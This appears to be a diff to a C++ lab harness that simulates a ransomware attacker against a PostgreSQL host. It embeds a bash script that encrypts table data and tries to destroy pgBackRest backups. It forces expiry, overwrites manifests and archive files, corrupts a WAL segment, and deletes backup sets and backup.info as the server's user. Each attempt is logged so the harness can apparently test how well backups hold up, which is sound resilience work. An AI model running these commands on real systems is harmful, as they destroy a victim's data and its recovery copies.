@@ -22,27 +22,80 @@ constexpr int kRowsAtOnce = 40;
 // Stands before what was encrypted, so that nothing is encrypted twice. Of the same letters as base64.
 constexpr std::string_view kMark = "LOCKED";
 
-// Ends with the host or when it is told to. A server that takes no writes is tried again.
+// Ends with the host or when it is told to. A server that takes no writes is tried again. Beside the encrypting, the attacker goes for
+// whatever would make a backup worthless: with the credentials that lie on the primary's host, through the repository's server, and as that
+// server's own user. Whoever speaks to the server with a client of his own can have it do what its user may; pgBackRest's client cannot
+// remove through it (2.45 fails before it asks), so that this is tried in its stead. Each try is a line of the log
+// (lab/backup_attack.hpp reads them); what was said to it stands below, indented.
 constexpr const char* kAttack = R"(
 as_server() { runuser -u "$OWNER" -- "$@"; }
 ask() { as_server psql -X -q -A -t -v ON_ERROR_STOP=1 -h "$SOCKET" -p "$PORT" -U postgres -d "$DATABASE" -c "$1"; }
-config=$(find "$FOLDER" -name pgbackrest.conf 2>/dev/null | head -1)
-backrest() {
-  echo "$*"
-  as_server pgbackrest --config="$config" --stanza="$STANZA" --log-level-file=off "$@" 2>&1
-  echo "ended with $?"
+find_config() { find "$1" -name pgbackrest.conf 2>/dev/null | head -1; }
+config=$(find_config "$FOLDER")
+backrest() { as_server pgbackrest --config="$config" --stanza="$STANZA" --log-level-file=off "$@"; }
+# WHAT COMMAND...
+attempt() {
+  local what=$1 said came_of_it=failed
+  shift
+  if said=$("$@" 2>&1); then
+    came_of_it=done
+  elif grep -qE 'raised from remote|not permitted|Permission denied|already exists' <<<"$said"; then
+    came_of_it=refused
+  fi
+  echo "tried $came_of_it $what"
+  [ -z "$said" ] || head -3 <<<"$said" | sed 's/^/  /'
+}
+overwrite() { attempt "overwrite $1 through the server" backrest repo-put --raw "$1" <<<'nothing'; }
+through_the_server() {
+  local set file
+  attempt 'expire by the member' backrest --repo1-retention-full=1 expire
+  for set in $(backrest repo-ls "backup/$STANZA" | grep -E '^[0-9]{8}-[0-9]{6}F'); do
+    for file in backup.manifest backup.manifest.copy bundle/1; do overwrite "backup/$STANZA/$set/$file"; done
+  done
+  for file in $(backrest repo-ls --recurse "archive/$STANZA" | grep -E '/[0-9A-F]{24}-' | head -2); do
+    overwrite "archive/$STANZA/$file"
+  done
+}
+# A segment that is archived already, with something else in it.
+replace_segment() {
+  local name copy
+  name=$(ls "$DATA/pg_wal/archive_status" | sed -n 's/^\([0-9A-F]\{24\}\)\.done$/\1/p' | tail -1) && [ -n "$name" ] &&
+    copy=$(as_server mktemp -d) && as_server cp "$DATA/pg_wal/$name" "$copy/" &&
+    as_server dd if=/dev/urandom of="$copy/$name" bs=1M seek=2 count=4 conv=notrunc status=none &&
+    attempt "replace segment $name" backrest --pg1-path="$DATA" --no-archive-async archive-push "$copy/$name"
+  [ -z "$copy" ] || rm -rf "$copy"
+}
+as_its_user() {
+  local top set config
+  config=$(find_config "$KEEPER")
+  top=$(find "$KEEPER" -type d -path "*/backup/$STANZA" 2>/dev/null | head -1)
+  [ -n "$top" ] && cd "$top/../.." || return
+  attempt "expire as the server's user" backrest --repo1-retention-full=1 expire
+  for set in $(ls "backup/$STANZA" | grep -E '^[0-9]{8}-[0-9]{6}F'); do
+    attempt "remove backup/$STANZA/$set as the server's user" as_server rm -rf "backup/$STANZA/$set"
+  done
+  attempt "remove the archive as the server's user" as_server find "archive/$STANZA" -type f ! -name '*.info*' -delete
+}
+# Whoever writes backups has to write these. They are put back.
+index() {
+  local file
+  for file in backup.info backup.info.copy; do overwrite "backup/$STANZA/$file"; done
+  for file in $(find "$KEEPER" -path "*/backup/$STANZA/backup.info*" 2>/dev/null); do
+    attempt "remove ${file##*/} as the server's user" as_server rm -f "$file"
+  done
 }
 if [ -n "$config" ]; then
-  backrest --repo1-retention-full=1 expire
-  # A segment that is archived already, with something else in it.
-  cd "$DATA/pg_wal" && name=$(ask 'SELECT last_archived_wal FROM pg_stat_archiver') && [ -f "$name" ] &&
-    copy=$(as_server mktemp -d) && as_server cp "$name" "$copy/" &&
-    as_server dd if=/dev/urandom of="$copy/$name" bs=1M seek=2 count=4 conv=notrunc status=none &&
-    backrest --pg1-path="$DATA" --no-archive-async archive-push "$copy/$name"
-  rm -rf "$copy"
+  { through_the_server; replace_segment; as_its_user; index; echo 'the backups are left alone now'; } &
 fi
 while sleep 0.5; do ask "$DEED"; done
 )";
+
+// Folder of the host that keeps the service's backups; empty when nobody does.
+std::string keeper_of(const LabWorld& world, const std::string& service) {
+  const auto* database = service_as<PostgresService>(world.plan, service);
+  const Backups* backups = database == nullptr ? nullptr : kept_backups(*database);
+  return backups == nullptr ? std::string() : world.options.folder + "/hosts/" + backups->repository_host->text;
+}
 
 // The columns of text, each as an assignment of what nobody can read without the key.
 Result<std::string> deed_on(const HitTable& what) {
@@ -98,8 +151,9 @@ Result<FaultDone> put_ransomware(LabWorld& world, const std::string& target, Act
   Daemon attacker{.name = kAttacker,
                   .argv = {"/bin/bash", "-c", kAttack},
                   .folder = world.options.folder,
-                  .log = world.options.folder + "/logs/attacker.log"};
+                  .log = world.options.folder + kAttackersLog};
   attacker.environment.add("FOLDER", world.options.folder + "/hosts/" + what.host);
+  attacker.environment.add("KEEPER", keeper_of(world, what.service));
   attacker.environment.add("OWNER", owner);
   attacker.environment.add("STANZA", what.service);
   attacker.environment.add("SOCKET", at[0]);
